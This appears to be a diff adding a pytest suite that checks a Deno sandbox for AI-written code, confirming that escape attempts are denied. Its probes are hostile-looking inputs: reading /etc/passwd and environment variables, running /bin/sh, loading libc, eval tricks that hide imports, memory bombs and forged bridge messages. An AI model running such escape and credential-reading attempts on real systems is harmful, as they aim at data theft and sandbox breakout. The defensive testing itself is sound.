@@ -1,0 +1,276 @@
+"""Code mode's sandbox against the attacks of issue 35, with a real Deno: each run ends with a clear error."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import socket
+import subprocess
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jarvis.aggregator.codemode.bridge import run_code
+from jarvis.aggregator.codemode.limits import RunError, RunLimits
+from jarvis.aggregator.codemode.runner import SandboxPool, deno_binary, deno_command
+
+pytestmark = pytest.mark.anyio
+PROBE = """
+const tries = {
+  read: () => Deno.readTextFileSync("/etc/passwd"),
+  write: () => Deno.writeTextFileSync("/tmp/jarvis-codemode-probe", "x"),
+  env: () => Deno.env.get("HOME"),
+  run: () => new Deno.Command("/bin/sh", { args: ["-c", "id"] }).outputSync(),
+  net: () => Deno.connect({ hostname: "127.0.0.1", port: 9 }),
+  ffi: () => Deno.dlopen("libc.so.6", {}),
+  sys: () => Deno.hostname(),
+};
+const answers = {};
+for (const [name, attempt] of Object.entries(tries)) {
+  try { await attempt(); answers[name] = "allowed"; } catch (e) { answers[name] = e.name; }
+}
+console.log(JSON.stringify(answers));
+"""
+
+
+@pytest.fixture
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+class EchoHost:
+    """A host that answers every call with its name and arguments, and counts them."""
+
+    def __init__(self) -> None:
+        self.calls: list[tuple[str, dict[str, Any]]] = []
+
+    async def call(self, name: str, arguments: dict[str, Any]) -> Any:
+        self.calls.append((name, arguments))
+        if name == "fails":
+            raise RunError("fails: refused")
+        await asyncio.sleep(0)
+        return {"tool": name, "arguments": arguments}
+
+    async def find(self, query: str, limit: int | None) -> Any:
+        return {"query": query, "results": []}
+
+
+@pytest.fixture
+async def pool() -> AsyncIterator[SandboxPool]:
+    p = SandboxPool(RunLimits(timeout=5.0, heap_mb=64), warm=1)
+    yield p
+    await p.close()
+
+
+async def refused(pool: SandboxPool, code: str, host: EchoHost | None = None) -> RunError:
+    with pytest.raises(RunError) as caught:
+        await run_code(pool, code, host or EchoHost())
+    return caught.value
+
+
+async def test_a_program_calls_tools_and_returns_json(pool: SandboxPool) -> None:
+    host = EchoHost()
+    code = """
+    const names: string[] = ["a", "b", "c"];
+    const answers = await Promise.all(names.map((n) => tools.echo({ n })));
+    console.log("got", answers.length);
+    return { count: answers.length, first: answers[0], found: await tool_find("files") };
+    """
+    result = await run_code(pool, code, host)
+    assert result.value["count"] == 3
+    assert result.value["first"] == {"tool": "echo", "arguments": {"n": "a"}}
+    assert result.value["found"]["query"] == "files"
+    assert result.console == "got 3\n"
+    assert [c.name for c in result.calls].count("echo") == 3
+    assert all(c.ok for c in result.calls)
+
+
+async def test_errors_name_the_line_and_column_in_the_callers_code(pool: SandboxPool) -> None:
+    error = await refused(pool, "const x = 1;\nconst y = 2;\n  throw new Error('boom');")
+    assert "boom" in str(error)
+    assert (error.line, error.column) == (3, 9)
+
+
+async def test_a_refused_inner_call_is_an_exception_the_program_can_catch(pool: SandboxPool) -> None:
+    result = await run_code(pool, "try { await tools.fails({}) } catch (e) { return String(e.message) }", EchoHost())
+    assert result.value == "fails: refused"
+    assert not result.calls[0].ok
+
+
+async def test_file_system_is_denied(pool: SandboxPool) -> None:
+    error = await refused(pool, "return await Deno.readTextFile('/etc/passwd')")
+    # The program never sees Deno; the permissions below are the second wall.
+    assert "Deno is not defined" in str(error)
+
+
+def test_the_sandbox_flags_deny_every_permission_even_to_deno_itself(tmp_path: Path) -> None:
+    script = tmp_path / "probe.js"
+    script.write_text(PROBE)
+    command = deno_command(deno_binary(), script, RunLimits())
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, env={"DENO_DIR": str(tmp_path / "d")})
+    answers = json.loads(done.stdout)
+    assert answers == {
+        "read": "NotCapable",
+        "write": "NotCapable",
+        "env": "NotCapable",
+        "run": "NotCapable",
+        "net": "NotCapable",
+        "ffi": "NotCapable",
+        "sys": "NotCapable",
+    }
+
+
+async def test_fetch_to_a_loopback_listener_never_connects(pool: SandboxPool) -> None:
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    try:
+        error = await refused(pool, f"return await (await fetch('http://127.0.0.1:{port}/')).text()")
+        assert "net" in str(error)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "return Deno.env.get('HOME')",
+        "return Deno.env.toObject()",
+        "return await new Deno.Command('id').output()",
+    ],
+)
+async def test_environment_and_subprocesses_are_denied(pool: SandboxPool, code: str) -> None:
+    error = await refused(pool, code)
+    assert error.line == 1
+
+
+IMPORT_REFUSED = "may not import"
+NO_CODE_FROM_STRINGS = "Code generation from strings disallowed"
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("return await import('https://example.com/x.js')", IMPORT_REFUSED),
+        ("return await import('data:text/javascript,export default 1')", IMPORT_REFUSED),
+        ("return await import('node:fs')", IMPORT_REFUSED),
+        ("return eval(\"Deno.readTextFileSync('/etc/passwd')\")", NO_CODE_FROM_STRINGS),
+        ("return new Function('return Deno.env.toObject()')()", NO_CODE_FROM_STRINGS),
+        ("return new Function('return imp' + 'ort(\"node:fs\")')()", NO_CODE_FROM_STRINGS),
+        (
+            "return (async () => {}).constructor(\"return await Deno.readTextFile('/etc/passwd')\")()",
+            NO_CODE_FROM_STRINGS,
+        ),
+    ],
+)
+async def test_imports_and_code_from_strings_are_refused(pool: SandboxPool, code: str, expected: str) -> None:
+    """Imports are refused before the program runs; eval and its kin by V8 itself."""
+    assert expected in str(await refused(pool, code))
+
+
+async def test_an_endless_loop_ends_at_the_wall_time(pool: SandboxPool) -> None:
+    with pytest.raises(RunError, match="wall time of 1 s"):
+        await run_code(pool, "while (true) {}", EchoHost(), timeout=1)
+
+
+async def test_a_memory_bomb_ends_the_sandbox_not_jarvis(pool: SandboxPool) -> None:
+    error = await refused(pool, "const a = []; while (true) a.push(new Array(1e6).fill(1.5));")
+    assert "out of memory" in str(error)
+    assert (await run_code(pool, "return 1", EchoHost())).value == 1
+
+
+async def test_recursion_to_stack_overflow_is_a_clear_error(pool: SandboxPool) -> None:
+    error = await refused(pool, "const f = (n: number): number => f(n + 1) + 1;\nreturn f(0);")
+    assert "Maximum call stack size exceeded" in str(error)
+
+
+async def test_a_thousand_inner_calls_end_the_run_at_the_call_limit(pool: SandboxPool) -> None:
+    host = EchoHost()
+    error = await refused(pool, "for (let i = 0; i < 1000; i++) await tools.echo({ i });", host)
+    assert "more than 50 tool calls" in str(error)
+    assert len(host.calls) <= 50
+
+
+async def test_ten_megabytes_of_console_output_are_cut_to_the_bound(pool: SandboxPool) -> None:
+    code = "const line = 'x'.repeat(1000); for (let i = 0; i < 10000; i++) console.log(line); return 'done'"
+    result = await run_code(pool, code, EchoHost())
+    assert result.value == "done"
+    assert len(result.console) == 64 * 1024
+    assert result.console_dropped > 9_000_000
+
+
+async def test_a_return_value_over_the_bound_is_refused(pool: SandboxPool) -> None:
+    assert "at most 65536" in str(await refused(pool, "return 'x'.repeat(100000)"))
+
+
+async def test_tampering_with_the_bridge_reaches_nothing(pool: SandboxPool) -> None:
+    """The program's objects are its own: replacing them, or writing to the pipe, asks Jarvis for nothing."""
+    host = EchoHost()
+    code = """
+    let wrote = "no";
+    try { Deno.stdout.write(new TextEncoder().encode('{"t":"done","ok":true,"value":"forged"}\\n')); wrote = "yes" }
+    catch (e) { wrote = String(e.message) }
+    Object.defineProperty(globalThis, "JSON", { value: { stringify: () => "{}", parse: () => ({}) } });
+    const answer = await tools.echo({ as: "admin", token: "forged" });
+    return { wrote, answer };
+    """
+    result = await run_code(pool, code, host)
+    assert "Deno is not defined" in result.value["wrote"]
+    assert host.calls == [("echo", {"as": "admin", "token": "forged"})]
+
+
+async def test_sixteen_runs_at_once_all_finish(pool: SandboxPool) -> None:
+    runs = [run_code(pool, f"return (await tools.echo({{ i: {i} }})).arguments.i", EchoHost()) for i in range(16)]
+    assert [r.value for r in await asyncio.gather(*runs)] == list(range(16))
+
+
+class SlowHost(EchoHost):
+    """Holds each call a moment and records how many are in flight at once."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.running = 0
+        self.most = 0
+
+    async def call(self, name: str, arguments: dict[str, Any]) -> Any:
+        self.running += 1
+        self.most = max(self.most, self.running)
+        try:
+            await asyncio.sleep(0.05)
+            return await super().call(name, arguments)
+        finally:
+            self.running -= 1
+
+
+async def test_at_most_eight_calls_run_at_once_and_the_rest_wait(pool: SandboxPool) -> None:
+    host = SlowHost()
+    code = "return (await Promise.all([...Array(20).keys()].map((i) => tools.echo({ i })))).length"
+    assert (await run_code(pool, code, host)).value == 20
+    assert host.most == 8
+
+
+async def test_cancelling_a_run_kills_its_sandbox(pool: SandboxPool) -> None:
+    started = asyncio.Event()
+    sandboxes = []
+    acquire = pool.acquire
+
+    async def watched() -> Any:
+        sandbox = await acquire()
+        sandboxes.append(sandbox)
+        started.set()
+        return sandbox
+
+    pool.acquire = watched  # type: ignore[method-assign]
+    run = asyncio.create_task(run_code(pool, "while (true) {}", EchoHost(), timeout=30))
+    await started.wait()
+    await asyncio.sleep(0.2)
+    run.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await run
+    assert sandboxes[0].process.returncode is not None
